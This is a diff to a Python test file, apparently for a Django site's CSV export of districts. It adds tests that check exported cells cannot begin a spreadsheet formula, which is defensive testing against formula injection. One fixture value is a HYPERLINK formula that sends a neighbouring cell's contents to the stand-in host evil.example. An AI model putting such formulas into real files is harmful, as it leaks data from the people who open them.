@@ -2,6 +2,7 @@
 
 import csv
 import io
+import re
 from decimal import Decimal
 
 import pytest
@@ -151,3 +152,34 @@ def test_a_row_csv_cannot_read_is_named(site_content):
             "Række 3, fil: Rækken er ikke gyldig CSV: tjek dens anførselstegn og linjeskift."
         ]
     assert not District.objects.filter(slug="fine").exists()
+
+
+SPLIT_OFF = {
+    "semicolon": {"name": 'Lund;=HYPERLINK("http://evil.example/?leak="&B2,"Klik")', "city": "Malmö; +46 By",
+                  "short_description": "Første linje\n=1+1\n@SUM(1)\t-2,+3;'=quoted by hand"},
+}
+
+
+def pieces_a_spreadsheet_may_split_off(text: str) -> list[str]:
+    """Every piece of the file that may begin a cell in some spreadsheet: Danish and Swedish Excel split
+    a comma-separated file at semicolons (their list separator), quotes or not, others at commas or tabs,
+    and a line break inside a quoted cell begins a row where the quoting is not understood."""
+    return [piece.lstrip('"') for line in text.splitlines() for piece in re.split(r"[;,\t]", line)]
+
+
+def test_no_piece_a_spreadsheet_may_split_off_begins_a_formula(client, site_content):
+    district(slug="semicolon", **SPLIT_OFF["semicolon"])
+    pieces = pieces_a_spreadsheet_may_split_off(export(client))
+    assert "'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&B2" in pieces  # the cell is quoted: its quotes doubled
+    assert [piece for piece in pieces if piece.startswith(TRIGGERS)] == []
+
+
+def test_cells_with_separators_import_again_value_for_value(client, site_content, tmp_path):
+    made = district(slug="semicolon", **SPLIT_OFF["semicolon"])
+    original = {column: getattr(made, column) for column in COLUMNS}
+    path = tmp_path / "export.csv"
+    path.write_text(export(client), encoding="utf-8")
+    made.delete()
+    call_command("import_districts", str(path), stdout=io.StringIO())
+    imported = District.objects.get(slug="semicolon", locale=Locale.get_default())
+    assert {column: getattr(imported, column) for column in COLUMNS} == original
